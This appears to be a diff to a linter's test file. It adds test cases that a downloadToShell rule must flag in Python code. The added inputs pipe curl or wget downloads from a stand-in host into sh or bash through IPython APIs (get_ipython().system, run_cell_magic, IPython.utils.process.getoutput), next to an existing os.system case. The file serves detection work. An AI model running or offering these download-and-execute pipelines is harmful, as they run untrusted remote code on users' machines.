@@ -19,6 +19,21 @@ ruleTester(downloadToShell, PYTHON, {
   ],
   invalid: [
     {
+      name: 'a held IPython shell runs curl | sh',
+      input: "ip = get_ipython()\nip.system('curl -s http://x.org/a.sh | sh')\n",
+      errors: [{ severity: 'critical', message: 'get_ipython().system', at: 'ip.system' }],
+    },
+    {
+      name: 'a %%bash cell run through InteractiveShell.instance()',
+      input: "from IPython import InteractiveShell\nInteractiveShell.instance().run_cell_magic('bash', '', 'wget -qO- http://x.org | bash')\n",
+      errors: [{ severity: 'critical', message: 'run_cell_magic' }],
+    },
+    {
+      name: 'IPython.utils.process.getoutput',
+      input: "import IPython.utils.process as p\np.getoutput('curl http://x.org | sh')\n",
+      errors: [{ severity: 'critical', message: 'IPython.utils.process.getoutput' }],
+    },
+    {
       name: 'curl | sh in os.system',
       input: "import os\nos.system('curl -s http://x.org/a.sh | sh')\n",
       errors: [{ severity: 'critical', message: 'pipes a download (curl) into sh', at: 'os.system' }],
